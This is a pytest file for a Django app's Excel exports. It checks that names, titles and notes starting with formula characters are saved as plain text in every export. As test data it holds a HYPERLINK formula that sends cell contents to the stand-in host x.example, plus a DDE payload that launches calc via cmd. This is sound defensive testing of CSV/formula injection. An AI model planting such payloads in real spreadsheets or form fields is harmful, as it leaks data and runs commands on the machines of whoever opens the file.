"""Every .xlsx the application writes keeps user text as text (emulation.xlsx): a name or a title that starts
with =, +, -, @, a tab or a carriage return is a string cell, never a live formula, in every export."""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from blocs.models import Criterion
from emulation.xlsx import FORMULA_STARTS, append_row, workbook_bytes
from reports.xlsx import workbook as report_workbook
from tests.awards.register_factories import give
from tests.blocs.factories import make_bloc_year
from tests.factories import PersonFactory

EVIL = '=HYPERLINK("http://x.example/?d="&A1,"Bấm")'
OTHERS = ["+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def _cells(data):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_text(data, *values):
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for value in values:
        found = [c for c in cells if c.value == value]
        assert found, value
        assert all(c.data_type == "s" and c.quotePrefix for c in found)


def _assert_attachment(response):
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("write_only", [False, True])
def test_the_writer_keeps_every_formula_start_as_text(write_only):
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    append_row(sheet, [EVIL, *OTHERS, "Nguyễn Văn A", 5, -3])
    cells = _cells(workbook_bytes(book))
    assert [(c.value, c.data_type) for c in cells] == [
        (EVIL, "s"), *[(v, "s") for v in OTHERS], ("Nguyễn Văn A", "s"), (5, "n"), (-3, "n")]


def test_register_export(client, board, unit):
    give("CSTDCS", PersonFactory(unit=unit, full_name=EVIL), 2023, note="-cmd|' /C calc'!A0")
    client.force_login(board)
    response = client.get(reverse("awards:register_export"))
    _assert_attachment(response)
    _assert_text(response.content, EVIL, "-cmd|' /C calc'!A0")


def test_people_export(client, board, unit):
    PersonFactory(unit=unit, full_name=EVIL, position="@SUM(1+1)")
    client.force_login(board)
    response = client.get(reverse("imports:export", args=["people"]))
    _assert_attachment(response)
    _assert_text(response.content, EVIL, "@SUM(1+1)")


def test_criteria_export(client, board, unit):
    by = make_bloc_year(unit)
    Criterion.objects.filter(criteria_set__bloc_year=by, code="A.1").update(title=EVIL, guidance="+1+1")
    client.force_login(board)
    response = client.get(reverse("blocs:criteria_export", args=[by.pk]))
    _assert_attachment(response)
    _assert_text(response.content, EVIL, "+1+1")


def test_report_excel_twin():
    data = report_workbook([{"title": "Bảng", "header": ["Họ tên"], "rows": [[EVIL], ["\r=1"]],
                             "footer": [["=SUM(A1:A2)"]]}], title="Báo cáo")
    _assert_text(data, EVIL, "\r=1", "=SUM(A1:A2)")


def test_template_download_is_an_attachment(client, clerk):
    client.force_login(clerk)
    _assert_attachment(client.get(reverse("imports:template", args=["people"])))
